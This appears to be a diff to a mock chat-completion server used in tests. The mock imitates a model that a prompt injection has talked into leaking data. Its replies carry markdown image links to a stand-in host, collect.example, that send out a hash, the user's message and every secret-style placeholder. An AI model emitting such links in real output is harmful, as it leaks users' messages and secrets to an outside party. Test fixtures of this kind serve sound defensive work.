@@ -113,14 +113,21 @@ interface Body {
 }
 
 const HASH_CHARS = 16
+const PLACEHOLDERS = /\[\[sp-[A-Z0-9]+-[a-z]+\]\]/g
+/** Behind it the model puts every placeholder that it was given. */
+export const PLACED = 'https://collect.example/placed/'
 const hashOf = (text: string): string => createHash('sha256').update(text).digest('hex')
 
 /** Says what it was told, as a model would that had been talked into it. */
 function saidOf({ messages = [] }: Body, text: string): string {
   const last = messages.at(-1)?.content
   const asked = typeof last === 'string' ? last : JSON.stringify(last ?? '')
-  const told = hashOf(text).slice(0, HASH_CHARS)
-  return `As [1] says, and [2]. It was told ${told}. You asked: ${asked.slice(0, 300)} ![seen](https://collect.example/${told}?q=${encodeURIComponent(asked.slice(0, 60))})`
+  // Placeholders are each world's own.
+  const told = hashOf(text.replaceAll(PLACEHOLDERS, 'value')).slice(0, HASH_CHARS)
+  const query = encodeURIComponent(asked.replaceAll(PLACEHOLDERS, 'value').slice(0, 60))
+  const shown = asked.slice(0, 300).replace(/\[\[sp-[^\]]*\]?$/, '')
+  const placed = (asked.match(PLACEHOLDERS) ?? []).map((one) => ` [it](${PLACED}${one})`).join('')
+  return `As [1] says, and [2]. It was told ${told}. You asked: ${shown}${placed} ![seen](https://collect.example/${told}?q=${query})`
 }
 
 const CREATED = 1_700_000_000
@@ -131,7 +138,8 @@ function framesOf(body: Body, text: string): readonly string[] {
   const common = { id: 'chatcmpl-prove', created: CREATED, model: body.model ?? '' }
   const chunk = (delta: object, finish: string | null): string =>
     `data: ${JSON.stringify({ ...common, object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`
-  const pieces = said.match(/[\s\S]{1,24}/g) ?? []
+  // A placeholder is one piece, or nobody could tell that two of them stand for the same.
+  const pieces = said.match(/\[\[sp-[A-Z0-9]+-[a-z]+\]\]|[^[]{1,24}|\[/g) ?? []
   return [
     chunk({ role: 'assistant', content: '' }, null),
     ...pieces.map((content) => chunk({ content }, null)),
